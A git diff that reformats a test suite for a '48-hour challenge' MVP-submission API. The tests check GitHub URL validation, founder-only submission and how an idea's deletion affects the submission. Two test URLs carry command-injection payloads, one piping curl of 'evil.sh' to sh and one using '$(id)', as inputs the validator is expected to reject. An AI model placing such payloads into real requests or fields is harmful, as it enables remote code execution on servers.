@@ -81,7 +81,11 @@ describe('the 48-hour challenge', () => {
     const { id } = await current(me.token);
     await post(me.token, `/api/challenges/${id}/join`);
     clock.advance(31 * 60_000);
-    for (const githubUrl of ['https://github.com/ada/seed;curl${IFS}evil.sh|sh', 'https://github.com/ada/seed?x=$(id)', 'https://github.com/ada/seed/tree/main']) {
+    for (const githubUrl of [
+      'https://github.com/ada/seed;curl${IFS}evil.sh|sh',
+      'https://github.com/ada/seed?x=$(id)',
+      'https://github.com/ada/seed/tree/main',
+    ]) {
       const response = await post(me.token, `/api/challenges/${id}/submit`, { ...mine(me), githubUrl });
       expect({ status: response.statusCode, body: response.json() }).toEqual({
         status: 400,
@@ -116,7 +120,10 @@ describe('the 48-hour challenge', () => {
       expect({ status: response.statusCode, body: response.json() }).toEqual({ status, body: { error } });
     }
     const asInvestor = await post(investor.token, `/api/challenges/${id}/submit`, { ...repo, ideaId: newest.id });
-    expect({ status: asInvestor.statusCode, body: asInvestor.json() }).toEqual({ status: 403, body: { error: 'Only founders can submit an MVP.' } });
+    expect({ status: asInvestor.statusCode, body: asInvestor.json() }).toEqual({
+      status: 403,
+      body: { error: 'Only founders can submit an MVP.' },
+    });
     expect((await current(me.token)).me.submission).toBeNull();
 
     const submitted = await post(me.token, `/api/challenges/${id}/submit`, mine(me));
@@ -128,7 +135,11 @@ describe('the 48-hour challenge', () => {
 
     // The shipped idea deleted: the MVP stays in the challenge without it, and its credits leave the founder's figures.
     expect((await ctx.app.inject({ method: 'DELETE', url: `/api/ideas/${me.ideaId}`, headers: bearer(me.token) })).statusCode).toBe(200);
-    expect((await current(me.token)).me.submission).toMatchObject({ ideaId: null, ideaTitle: null, credits: submitted.json().submission.credits });
+    expect((await current(me.token)).me.submission).toMatchObject({
+      ideaId: null,
+      ideaTitle: null,
+      credits: submitted.json().submission.credits,
+    });
     expect(await profile()).toEqual({ projects: 1, credits: 0, successRate: 0 });
   });
 
